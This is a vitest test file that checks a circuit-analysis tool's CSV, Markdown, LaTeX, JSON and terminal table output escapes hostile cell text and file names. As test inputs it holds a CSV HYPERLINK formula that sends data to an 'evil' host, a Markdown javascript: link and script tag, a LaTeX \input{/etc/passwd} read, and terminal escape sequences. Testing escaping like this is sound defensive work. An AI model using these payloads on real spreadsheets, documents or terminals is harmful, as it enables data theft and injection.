import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { tableOf } from '../../src/tables/document.ts';
import { plainTable } from '../../src/tables/plain-table.ts';
import { TABLE_FORMATS, type TableFormat } from '../../src/tables/table-formats.ts';
import { adderscope } from '../support/command-line.ts';
import { runCommand } from '../support/run-command.ts';

const FORMATS = Object.keys(TABLE_FORMATS).filter((name): name is TableFormat =>
  Object.hasOwn(TABLE_FORMATS, name),
);

/** A table of one column, heading and title of the same text. */
async function written(format: TableFormat, ...cells: (string | number)[]): Promise<string> {
  const rows = cells.map((cell) => ({ cell }));
  const table = tableOf('rows', String(cells[0]), rows, [['cell', (row) => row.cell]]);
  return await TABLE_FORMATS[format]({ facts: {}, tables: [table], notes: [String(cells[0])] });
}

describe('a cell is text, whatever it holds', () => {
  test.each([
    ['=HYPERLINK("http://evil/?"&A1)', `"'=HYPERLINK(""http://evil/?""&A1)"`],
    ['+cmd', "'+cmd"],
    ['-cmd', "'-cmd"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\uff1dA1', "'\uff1dA1"],
    ['\t=A1', '\\u{9}=A1'],
    ['\r=A1', '\\u{d}=A1'],
    ['x;=A1', '"x;=A1"'],
    ['a,b', '"a,b"'],
    ['-6', '-6'],
    ['-1.5e-7', '-1.5e-7'],
    ['+.5', '+.5'],
    ['-inf', '-inf'],
    ['-6+cmd', "'-6+cmd"],
    ['0xff', '0xff'],
  ])('csv: %j', async (text, line) => {
    expect(await written('csv', text)).toBe(`cell\n${line}\n`);
  });

  test.each([
    ['<script>', '&lt;script>'],
    ['&lt;script>', '&amp;lt;script>'],
    ['a & b', 'a & b'],
    ['[x](javascript:alert(1))', '[x]\\(javascript:alert(1))'],
    ['a|b', 'a\\|b'],
    ['a\\|b', 'a\\\\\\|b'],
    ['a\n\n# b', 'a\\u{a}\\u{a}# b'],
  ])('md: %j', async (text, cell) => {
    const lines = (await written('md', text)).split('\n');
    expect(lines).toHaveLength(6);
    expect(lines[4]?.trim()).toBe(`| ${cell.padEnd(4)} |`);
    expect(lines[0]).not.toContain('<');
  });

  test.each([
    ['\\input{/etc/passwd} $x$ %c', '\\textbackslash{}input\\{/etc/passwd\\} \\$x\\$ \\%c'],
    ['a\n\\end{tabular}', 'a\\textbackslash{}u\\{a\\}\\textbackslash{}end\\{tabular\\}'],
    ['[2pt]', '{[}2pt]'],
    ['*x', '{*}x'],
    [
      'a & b # c_d ^ ~ < > |',
      'a \\& b \\# c\\_d \\textasciicircum{} \\textasciitilde{} \\textless{} \\textgreater{} \\textbar{}',
    ],
  ])('latex: %j', async (text, cell) => {
    const lines = (await written('latex', text)).split('\n');
    expect(lines).toHaveLength(9);
    expect(lines[0]).toMatch(/^% /);
    expect(lines[5]).toBe(`  ${cell} \\\\`);
  });

  test.each(FORMATS)('%s: no text breaks a row or reaches a terminal', async (format) => {
    const lines = (await written(format, 'x')).split('\n').length;
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary' }), async (text) => {
        const out = await written(format, text);
        expect(out.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
        expect(out.split('\n')).toHaveLength(lines);
      }),
      { seed: 13 },
    );
  });

  test.each(['json', 'ndjson'] as const)('%s says the same as the data', async (format) => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary' }), async (cell) => {
        const data: unknown = JSON.parse(await written(format, cell));
        expect(data).toEqual(format === 'json' ? { rows: [{ cell }] } : { cell });
      }),
      { seed: 13 },
    );
  });
});

test('columns of a terminal are as wide as what is seen', async () => {
  const rows = [
    ['net', 'n'],
    ['乘法器', '1'],
    ['é', '-20'],
    ['e\u0301\u{1f600}', '3'],
  ];
  expect(await plainTable(rows, ['left', 'right'])).toBe(
    ['net       n', '乘法器    1', 'é       -20', 'e\u0301\u{1f600}       3'].join('\n'),
  );
  expect(
    await plainTable(
      [
        ['a', 'b'],
        ['', ''],
      ],
      ['left', 'left'],
    ),
  ).toBe('a  b\n');
});

test.each(['table', 'md'] as const)('%s: a long cell does not widen every row', async (format) => {
  const cells = ['x'.repeat(100_000), ...Array.from({ length: 100 }, () => 'y')];
  const rows = cells.map((cell) => ({ cell }));
  const columns = ['a', 'b'].map((name) => [name, (row: { cell: string }) => row.cell] as const);
  const out = await TABLE_FORMATS[format]({ facts: {}, tables: [tableOf('rows', 'Rows', rows, columns)] });
  expect(out.length).toBeLessThan(500_000);
});

describe('what files are called, and what they hold', () => {
  let folder = '';
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'adderscope-'));
  });
  afterAll(() => rmSync(folder, { recursive: true }));

  const cases = [
    'csv-md-latex/csv.blif',
    'csv-md-latex/latex.yosys.json',
    'csv-md-latex/md.yosys.json',
    'csv-md-latex/nl.yosys.json',
    'terminal-escapes/ansi.yosys.json',
    'terminal-escapes/name.v',
  ];
  test.each(cases.flatMap((name) => FORMATS.map((format) => [name, format] as const)))(
    '%s as %s',
    async (name, format) => {
      const path = `test/fixtures/cases/${name}`;
      const { code, data } = await runCommand('recover', path, '--format', format);
      expect(code).toBe(0);
      expect(data.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
      if (format === 'csv') expect(data).not.toMatch(/(^|,)"?[=+@]/m);
      if (format === 'md') expect(data).not.toMatch(/<script|\]\(/);
      const plain = await runCommand(
        'recover',
        'dadda-multiplier',
        '--i',
        '1',
        '--j',
        '1',
        '--format',
        format,
      );
      expect(data.split('\n')).toHaveLength(plain.data.split('\n').length);
    },
  );

  test('an error tells of escape codes by their numbers', () => {
    const { code, stderr } = adderscope('recover', 'test/fixtures/cases/terminal-escapes/err.v');
    expect(code).toBe(2);
    expect(stderr).toContain("'\\u{1b}]0;owned\\u{7}");
    expect(stderr.trimEnd()).not.toMatch(/[\p{Cc}]/u);
  });

  test('the name of a file is data too', async () => {
    const path = join(folder, '\u001b[2J<b>|x.v');
    writeFileSync(path, 'module m(input a, output y);\nassign y = a;\nendmodule\n');
    for (const format of FORMATS) {
      const { data } = await runCommand('recover', path, '--format', format);
      expect(data.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
    }
    const { stderr } = adderscope('recover', join(folder, '\u001b[2J\nERROR: none'));
    expect(stderr.trimEnd()).not.toMatch(/\p{Cc}/u);
    expect(stderr).toContain('\\u{1b}[2J\\u{a}ERROR: none');
  });
});

test('the built command has the widths of every script, not those that its help makes do with', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'adderscope-'));
  try {
    writeFileSync(join(folder, '乘.blif'), '.model m\n.inputs a b\n.outputs y\n.names a b y\n11 1\n.end\n');
    writeFileSync(join(folder, 'mm.blif'), '.model m\n.inputs a b\n.outputs y\n.names a b y\n11 1\n.end\n');
    const { stdout } = adderscope('recover', join(folder, '乘.blif'), join(folder, 'mm.blif'));
    const [one = '', other = ''] = stdout.split('\n').slice(2, 4);
    expect(one.replace('乘', 'mm')).toBe(other);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});
